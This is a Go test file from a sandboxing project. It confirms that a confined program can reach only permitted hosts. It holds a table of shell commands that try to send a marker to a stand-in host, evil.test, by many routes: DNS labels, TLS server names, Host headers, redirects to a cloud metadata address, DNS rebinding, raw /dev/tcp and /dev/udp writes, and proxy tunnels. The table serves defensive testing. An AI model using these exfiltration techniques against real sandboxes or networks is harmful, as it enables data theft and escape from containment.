//go:build linux

package escape

import (
	"fmt"
	"net"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/fencepost/fencepost/internal/test/testkit/world"
)

// out is a way by which a program tries to send a text to somebody else than a host that it may
// reach. @ stands for the text.
type out struct{ about, try string }

var outs = []out{
	{"a label of a name", "curl -s -m 2 http://@.evil.test/"},
	{"a label below an allowed name", "curl -s -m 2 http://@.good.test/"},
	{"a query for text", "$TOOL tool lookup @.evil.test"},
	{"a query for text of an allowed name", "$TOOL tool lookup @.good.test"},
	{"packets to name servers", "$TOOL tool queries @ evil.test; $TOOL tool queries @ good.test"},
	{"a server's name in TLS", "curl -sk -m 2 --connect-to ::good.test:443 https://@.test/"},
	{"a server's name in TLS, behind a proxy",
		"curl -sk -m 2 -p $PROXY --connect-to ::good.test:443 https://@.test/"},
	{"another host in a request", "curl -s -m 2 -H 'Host: @.test' http://good.test/"},
	{"another host in a target", "curl -s -m 2 --request-target http://@.test/ http://good.test/"},
	{"another host asked of a proxy", "curl -s -m 2 $PROXY http://evil.test/@"},
	{"a redirection", "curl -sL -m 2 http://good.test/to/http://evil.test/@"},
	{"a redirection to metadata", "curl -sL -m 2 http://good.test/to/http://169.254.169.254/@"},
	{"an allowed name at another address",
		"curl -s -m 2 --resolve good.test:80:" + evilAddr + " http://good.test/@"},
	{"an allowed name that leads elsewhere", strings.Repeat("curl -s -m 2 http://rebind.test/@;", 8)},
	{"another host", "curl -s -m 2 http://evil.test/@"},
	{"an address", "curl -s -m 2 http://" + evilAddr + "/@"},
	{"an address of IPv6", "curl -gs -m 2 http://[2606:4700::66]/@"},
	{"an address within one of IPv6", "curl -gs -m 2 http://[::ffff:" + evilAddr + "]/@"},
	{"a packet", "echo @ > /dev/udp/" + evilAddr + "/53; echo @ > /dev/udp/" + evilAddr + "/443"},
	{"a packet to all", "echo @ > /dev/udp/224.0.0.251/5353"},
	{"another port of an allowed host", "echo @ > /dev/tcp/good.test/25"},
	{"names over TCP", "exec 3<>/dev/tcp/" + namesAddr + "/53 && echo @ >&3"},
	{"names over TLS", "exec 3<>/dev/tcp/" + evilAddr + "/853 && echo @ >&3"},
	{"git's own protocol", "timeout 3 git ls-remote git://evil.test/@"},
	{"somebody's proxy", "curl -s -m 2 -x http://evil.test:3128 http://good.test/@"},
	{"somebody's tunnel", "curl -s -m 2 -p -x http://evil.test:3128 http://@.good.test/"},
}

// mark is the text of a way, which no other way's contains.
func mark(i int) string { return fmt.Sprintf("m4rk%02dx", i) }

// outScript tries all ways, and says something to the host that it may speak with.
func outScript() string {
	script := `PROXY="-x ${http_proxy:-http://127.0.0.1:3128}"
curl -s -m 5 -d legit http://good.test/
`
	for i, o := range outs {
		script += "( " + strings.ReplaceAll(o.try, "@", mark(i)) + " ) > /dev/null 2>&1\n"
	}
	return script
}

// TestNothingLeaves writes down every packet that leaves the machine while a program that may speak
// with good.test and rebind.test tries to tell somebody else something. Without the sandbox each
// way works. In it what leaves are questions for these two names, and what goes to good.test.
func TestNothingLeaves(t *testing.T) {
	m := newMachine(t)
	for _, uid := range world.Users(world.Nobody) {
		for _, engine := range []string{"", "native", "bwrap", "landlock"} {
			t.Run(fmt.Sprintf("%s/%d", engine, uid), func(t *testing.T) {
				r := &row{Street: true, Shell: "bash", Try: outScript(),
					Flags: []string{"-n", "good.test", "-n", "rebind.test"}}
				e := &machine{dir: m.dir, engine: engine, first: m.first}
				var wrap []string
				w := e.place(t, uid)
				if engine != "" {
					e.works(t, uid)
					e.ports(t, r)
					wrap = w.sandbox(r)
				}
				said := w.run(t, r, wrap)
				data, err := os.ReadFile(w.path("outside/left"))
				must(t, err)
				lines := slices.Collect(strings.Lines(string(data)))
				if engine == "" {
					poor(t, uid)
					allLeaves(t, lines)
				} else {
					nothingLeaves(t, lines)
				}
				if t.Failed() {
					t.Log(said)
				}
			})
		}
	}
}

var toGood = regexp.MustCompile(`^tcp ` + regexp.QuoteMeta(goodAddr) + `:(22|80|443) `)

// allLeaves: the attempts are some.
func allLeaves(t *testing.T, lines []string) {
	for i, o := range outs {
		n := slices.IndexFunc(lines, func(line string) bool {
			sent := strings.Contains(line, mark(i))
			return sent && (!toGood.MatchString(line) || strings.Contains(o.try, "good.test"))
		})
		if n < 0 && !strings.Contains(o.try, "$PROXY") {
			t.Errorf("%s: nothing leaves without the sandbox", o.about)
		}
	}
}

// nothingLeaves looks at all that left.
func nothingLeaves(t *testing.T, lines []string) {
	spoke := false
	for _, line := range lines {
		spoke = spoke || toGood.MatchString(line) && strings.Contains(line, "legit")
		if why := mayLeave(line); why != "" {
			t.Errorf("%s: %.300s", why, line)
		}
	}
	if !spoke {
		t.Error("nothing reaches the host that may be reached")
	}
}

// asksGood is a way that asks good.test itself, if it gets that far.
var asksGood = regexp.MustCompile(`http://(good|rebind)\.test/(to/.*)?@`)

// mayLeave says why a packet may not have left.
func mayLeave(line string) string {
	if toGood.MatchString(line) {
		for i, o := range outs {
			if strings.Contains(line, mark(i)) && !asksGood.MatchString(o.try) {
				return o.about
			}
		}
		return ""
	}
	if query, ok := strings.CutPrefix(line, "udp "+net.JoinHostPort(namesAddr, "53")+" "); ok {
		return mayAsk(strings.TrimSpace(query))
	}
	return "to somebody else"
}

// mayAsk says why a query may not have left.
func mayAsk(quoted string) string {
	var packet string
	if _, err := fmt.Sscanf(quoted, "%q", &packet); err != nil {
		return err.Error()
	}
	var m dnsmessage.Message
	if err := m.Unpack([]byte(packet)); err != nil || len(m.Questions) != 1 {
		return "no query of one name"
	}
	q := m.Questions[0]
	plain := q.Type == dnsmessage.TypeA || q.Type == dnsmessage.TypeAAAA
	if name := q.Name.String(); !plain || name != "good.test." && name != "rebind.test." {
		return "a query for " + name
	}
	if again, err := m.Pack(); err != nil || string(again) != packet {
		return "a query with more in it"
	}
	return ""
}
